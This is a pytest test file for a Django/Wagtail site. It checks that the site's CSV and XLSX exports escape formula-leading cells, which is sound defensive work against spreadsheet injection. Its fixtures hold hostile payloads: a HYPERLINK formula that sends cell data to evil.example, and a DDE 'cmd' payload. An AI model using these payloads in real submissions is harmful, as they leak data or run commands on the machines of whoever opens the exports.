"""One export path: every export escapes formula-leading text (issue 15.4, 19.4). A name typed
into a public form as `=HYPERLINK(...)` is read back from CSV and XLSX as text, never a formula."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.factories import UserFactory
from core.exports import FORMULA_PREFIXES, csv_bytes, xlsx_bytes
from enterprises.factories import EnterpriseFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
HOSTILES = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def assert_no_formula_csv(data: bytes, needle="HYPERLINK"):
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert any(needle in cell for cell in cells), "the hostile value must be exported"
    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES), cell


def assert_no_formula_xlsx(data: bytes, needle="HYPERLINK"):
    sheet = load_workbook(io.BytesIO(data)).worksheets[-1]
    found = False
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                found = found or needle in cell.value
                assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
    assert found, "the hostile value must be exported"


def test_the_writer_escapes_every_formula_prefix_and_keeps_numbers():
    rows = [[value, -5, Decimal("90.77"), datetime.date(2025, 10, 20)] for value in HOSTILES]
    data = csv_bytes(["Tên", "Số", "Điểm", "Ngày"], rows)
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[0] for row in parsed[1:]] == ["'" + value for value in HOSTILES]
    assert parsed[1][1:3] == ["-5", "90.77"]  # numbers are numbers, unlocalised
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["Tên", "Số", "Điểm", "Ngày"], rows))).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    # (XML stores a carriage return as a line feed; the apostrophe is what matters)
    assert [row[0] for row in values] == ["'" + value.replace("\r", "\n") for value in HOSTILES]
    assert values[0][1] == -5


def test_event_registrations_export(client):
    from events.factories import EventIndexPageFactory, EventPageFactory, RegistrationFactory
    from home.factories import make_site_home

    event = EventPageFactory(parent=EventIndexPageFactory(parent=make_site_home()))
    RegistrationFactory(event=event, attendee_name=HOSTILE, enterprise_name=HOSTILE)
    organiser = UserFactory(roles=["event_organiser"])
    event.organisers.add(organiser)  # organisers export only the events that name them
    event.save()
    client.force_login(organiser)
    assert_no_formula_csv(client.get(reverse("events_admin:export", args=[event.pk, "csv"])).getvalue())
    assert_no_formula_xlsx(client.get(reverse("events_admin:export", args=[event.pk, "xlsx"])).content)


def test_registry_export_escapes_and_works_without_a_sector(client):
    EnterpriseFactory(name=HOSTILE, sector=None, area=None)
    client.force_login(UserFactory(roles=["programme_editor"]))
    url = reverse("wagtailsnippets_enterprises_enterprise:list")
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert_no_formula_csv(response.getvalue())
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    assert_no_formula_xlsx(b"".join(response.streaming_content))


def test_assessment_export(client):
    from assessment_forms.factories import VerifiedSubmissionFactory, load_dbi_1970

    framework = load_dbi_1970()
    VerifiedSubmissionFactory(framework=framework, year=2025, enterprise=EnterpriseFactory(name=HOSTILE))
    client.force_login(UserFactory(roles=["assessor"]))
    url = reverse("assessment_forms_export", args=["csv"])
    assert_no_formula_csv(client.get(url, {"year": 2025}).getvalue())
    assert_no_formula_xlsx(client.get(reverse("assessment_forms_export", args=["xlsx"]), {"year": 2025}).content)


def test_public_rankings_csv(client, site_home):
    from assessment_forms.models import PublishedYear
    from honors.factories import RankingEntryFactory, make_rankings_page
    from honors.services.rankings import rerank

    PublishedYear.objects.get_or_create(year=2025)  # only published years are public
    page = make_rankings_page(site_home)
    RankingEntryFactory(
        enterprise=EnterpriseFactory(name=HOSTILE, publish_dbi_consent=True),
        year=2025,
        total=Decimal("150"),
        level=3,
        pillars_at_level=4,
        verified_at=datetime.datetime(2025, 10, 1, tzinfo=datetime.UTC),
    )
    rerank(2025)
    response = client.get(page.url + "csv/?year=2025")
    assert response.status_code == 200
    assert_no_formula_csv(response.getvalue())


def test_dashboard_open_data_goes_through_the_writer():
    from dashboard import exports

    class Table:
        def as_matrix(self):
            return [["Ngành", "Số doanh nghiệp"], [HOSTILE, 12], ["—", 3]]

    assert_no_formula_csv(exports.table_csv(Table()).encode("utf-8"))


def test_every_admin_list_export_goes_through_the_escaping_writer():
    """Wagtail writes CSV cells as they are: every viewset with `list_export` must export
    through `SafeSpreadsheetExportMixin` (a new viewset that forgets fails here)."""
    from wagtail.admin.viewsets import viewsets

    from core.exports import SafeSpreadsheetExportMixin

    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(getattr(viewset, "list_export", None), list | tuple) and viewset.list_export
    ]
    assert len(exporting) >= 8
    unsafe = [
        type(viewset).__name__
        for viewset in exporting
        if not issubclass(viewset.index_view.view_class, SafeSpreadsheetExportMixin)
    ]
    assert unsafe == []


def test_solutions_admin_csv_export_escapes_formulas(client):
    from market.factories import SolutionFactory

    SolutionFactory(name=HOSTILE)
    client.force_login(UserFactory(is_superuser=True))
    response = client.get(reverse("wagtailsnippets_market_solution:list"), {"export": "csv"})
    assert response.status_code == 200
    assert_no_formula_csv(b"".join(response.streaming_content))
